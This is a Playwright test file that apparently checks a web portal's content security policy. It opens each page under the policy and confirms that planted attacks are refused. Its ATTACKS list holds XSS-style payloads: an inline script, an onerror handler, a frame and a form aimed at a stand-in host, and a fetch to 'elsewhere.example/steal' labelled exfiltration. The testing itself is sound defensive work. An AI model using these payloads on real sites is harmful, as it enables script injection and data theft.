"""In a real browser, on every page: nothing that our own policy refuses, and what it must refuse is refused."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect
from tests.browser.conftest import MakeVisitor, Portal, refused, watched
from tests.browser.test_every_page import PLAIN
from tests.portal.test_access import ROUTES, Route, access_of
from tests.security.pages import address_of, role_for

DOWNLOADS = {"protection:assessment", "protection:notice", "users_export", "journal:verifier"}
"""Addresses that hand over a file, which a browser does not show."""
LOOKED_AT = {param.id for param in PLAIN}
"""Pages that are opened under the policy when barriers are looked for: once is enough."""
PAGES = [
    route
    for route in ROUTES
    if access_of(route).answers == "page" and route.name not in DOWNLOADS and route.name not in LOOKED_AT
]


@pytest.mark.parametrize("route", PAGES, ids=lambda route: route.name)
def test_no_page_asks_for_what_our_policy_refuses(visitor: MakeVisitor, portal: Portal, route: Route) -> None:
    role = role_for(route)
    someone = watched(visitor(role.value if role is not None else None))
    someone.page.goto(portal.address + address_of(route, portal.an_event))
    someone.page.wait_for_load_state("networkidle")
    assert refused(someone) == []
    assert someone.page.evaluate("crossOriginIsolated") is True


def test_the_map_and_the_chart_of_explore_work_under_the_policy(visitor: MakeVisitor) -> None:
    someone = watched(visitor("agent"))
    workers: list[str] = []
    someone.page.on("worker", lambda worker: workers.append(worker.url))
    page = someone.go("/explore/")
    expect(page.locator("canvas.maplibregl-canvas")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert [url for url in workers if "maplibre-gl-worker" in url]
    assert refused(someone) == []


APPEND = "document.body.insertAdjacentHTML('beforeend', `{}`)"
SCRIPT = "const script = document.createElement('script'); {}; document.body.append(script)"
ATTACKS = [
    pytest.param(SCRIPT.format("script.textContent = 'window.won = 1'"), id="inline-script"),
    pytest.param(SCRIPT.format("script.src = 'https://elsewhere.example/x.js'"), id="script-of-another-server"),
    pytest.param(APPEND.format('<img src=x onerror="window.won = 1">'), id="handler"),
    pytest.param(APPEND.format("<style>body { color: red }</style>"), id="style"),
    pytest.param(APPEND.format('<iframe src="https://elsewhere.example/"></iframe>'), id="frame"),
    pytest.param(APPEND.format('<form id="f" action="https://elsewhere.example/"></form>') + "; f.submit()", id="form"),
    pytest.param("fetch('https://elsewhere.example/steal').catch(() => {})", id="exfiltration"),
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_planted_script_would_do_is_refused(visitor: MakeVisitor, attack: str) -> None:
    someone = watched(visitor("agent"))
    page = someone.go("/profile/")
    with page.expect_console_message(lambda said: "refused by our policy" in said.text):
        page.evaluate(f"() => {{ {attack} }}")
    assert page.evaluate("window.won") is None
